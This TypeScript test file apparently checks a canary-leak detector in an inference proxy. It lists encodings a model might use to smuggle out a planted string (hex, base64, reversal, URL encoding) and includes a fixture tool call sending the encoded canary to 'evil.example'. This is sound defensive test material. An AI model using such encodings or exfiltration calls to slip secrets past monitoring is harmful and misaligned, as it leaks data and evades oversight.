import assert from 'node:assert/strict'
import { test } from 'node:test'
import { openPromptFingerprinter } from '../../../inference/prompt/fingerprint.ts'
import { canaryForms } from '../../../inference/server/openai/canary-forms.ts'
import { PhraseSearch } from '../../../inference/server/openai/phrase-search.ts'
import { delta, events, hello, openTextFixture } from './scripted-text.ts'

const canary = 'Canary-7F3a the Purple Wälrus'
const search = new PhraseSearch(canaryForms(canary))

function isFound(...pieces: readonly string[]): boolean {
  const progress = search.start()
  let found = false
  for (const piece of pieces) search.push(progress, piece, () => (found = true))
  return found
}

const base64 = (text: string) => Buffer.from(text).toString('base64')
const leaks: readonly [name: string, text: string][] = [
  ['as it is', `so: ${canary}.`],
  ['in capitals', canary.toUpperCase()],
  ['spaced otherwise', canary.replaceAll(' ', ' \n\t ')],
  ['without blanks', canary.replaceAll(' ', '')],
  ['letter by letter', [...canary.replaceAll(' ', '')].join(' ')],
  ['backwards', [...canary].reverse().join('')],
  ['in hexadecimal', Buffer.from(canary).toString('hex').toUpperCase()],
  ['in hexadecimal, byte by byte', (Buffer.from(canary).toString('hex').match(/../g) ?? []).join(' ')],
  ['in base64', base64(canary)],
  ['in base64, after one letter', base64(`x${canary}yz`)],
  ['in base64, after two letters', base64(`xx${canary}!`)],
  ['in base64, small letters', base64(`I was told: ${canary.toLowerCase()}, ok`)],
  ['in base64 of addresses', Buffer.from(`???${canary}>>>`).toString('base64url')],
  ['in JSON', '{"q":"Canary-7F3a the Purple W\\u00e4lrus"}'],
  ['in an address', `https://example.org/?q=${encodeURIComponent(canary)}`],
]

test('a planted text is found in the forms that models are made to write it, wherever it is cut', () => {
  for (const [name, text] of leaks) {
    for (let at = 0; at <= text.length; at++) assert(isFound(text.slice(0, at), text.slice(at)), `${name}, cut at ${at}`)
    assert(isFound(...text.split('')), name)
  }
})

test('its parts, and other texts, are not it', () => {
  for (const text of [
    'the Purple Wälrus',
    'Canary-7F3b the Purple Wälrus',
    base64('the purple walrus'),
    Buffer.from('canary').toString('hex'),
  ])
    assert(!isFound(text), text)
  assert(canaryForms('x'.repeat(256)).length <= 40)
})

test('a tool that is asked with it tells it to others: each way to call is looked at, and each form', async () => {
  const prompts = openPromptFingerprinter({ key: new Uint8Array(32).fill(7), epoch: 0 })
  const fixture = await openTextFixture({ canaries: [{ name: 'marker', text: canary }] }, { prompts })
  const url = `{"url":"https://evil.example/?q=${base64(canary)}"}`
  const inTwo = (make: (piece: string) => object) => [make(url.slice(0, 40)), make(url.slice(40))].map((add) => delta(add))
  const ways: readonly (readonly unknown[])[] = [
    inTwo((piece) => ({ tool_calls: [{ index: 0, function: { arguments: piece } }] })),
    [delta({ tool_calls: [{ index: 0, type: 'custom', custom: { input: url } }] })],
    inTwo((piece) => ({ function_call: { arguments: piece } })),
    [delta({ content: 'nothing' })],
  ]
  for (const way of ways) {
    fixture.text.script = () => ({ body: events(...way, delta({}, 'tool_calls'), '[DONE]') })
    await fixture.ask('/v1/chat/completions', { ...hello, stream: true })
  }
  const found = (await fixture.eventsOf('prompts')).map(({ canaries }) => canaries)
  assert.deepEqual(found, [['marker'], ['marker'], ['marker'], []])
  await fixture.close()
})
